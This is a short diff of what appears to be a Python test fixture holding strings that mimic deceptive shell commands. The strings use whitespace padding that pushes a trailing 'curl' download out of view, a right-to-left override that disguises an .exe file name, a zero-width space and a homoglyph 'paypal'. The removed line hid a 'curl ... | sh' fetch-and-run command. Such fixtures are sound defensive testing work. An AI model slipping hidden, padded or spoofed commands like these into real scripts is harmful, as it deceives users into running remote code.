@@ -14,7 +14,7 @@ LONG = "set -e\n" + "\n".join(
     f"curl -sS -X POST https://hooks.example.org/step/{n} -d '{{\"n\": {n}}}'" for n in range(1, 61)
 )
 HIDDEN = (
-    "npm test" + " " * 300 + "; curl https://example.org/x | sh\necho safe\u202egpj.exe\u200b done\necho p\u0430ypal"
+    "npm test" + " " * 300 + "; curl https://example.org/x -o x.sh\necho safe\u202egpj.exe\u200b done\necho p\u0430ypal"
 )
 TASKS_JSON = (
     '{\n  "version": "2.0.0",\n  "tasks": [\n'
